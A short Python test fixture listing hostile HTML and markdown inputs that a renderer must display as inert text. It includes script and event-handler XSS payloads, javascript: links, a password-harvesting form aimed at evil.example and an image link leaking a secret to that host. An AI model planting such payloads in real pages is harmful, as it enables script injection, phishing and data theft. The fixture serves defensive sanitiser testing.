"""What documents and people may try; none of it may become more than words."""

HOSTILE = (
    "<script>window.pwned=1</script>",
    '<img src="http://evil.example/a.png" onerror="window.pwned=1">',
    "<svg onload=window.pwned=1></svg>",
    '</p></div></blockquote><form action="http://evil.example"><input name="password"></form>',
    '<div style="position:fixed;inset:0;background:url(http://evil.example)">over</div>',
    "![x](http://evil.example/?q=secret)",
    "[click](javascript:window.pwned=1)",
    "[click](http://evil.example)",
    "<http://evil.example>",
    "<details open ontoggle=window.pwned=1>",
    "**bold** _em_ `code` ~~gone~~ # heading",
    "```mermaid\ngraph TD; A-->B\n```",
    "$$\\href{javascript:window.pwned=1}{x}$$",
    "first\n\n# second\n\n- third <b>\n\n| a | b |\n|---|---|\n| c | d |",
    '" onmouseover="window.pwned=1" x="',
    "&lt;script&gt; &#60;b&#62; &amp;",
)
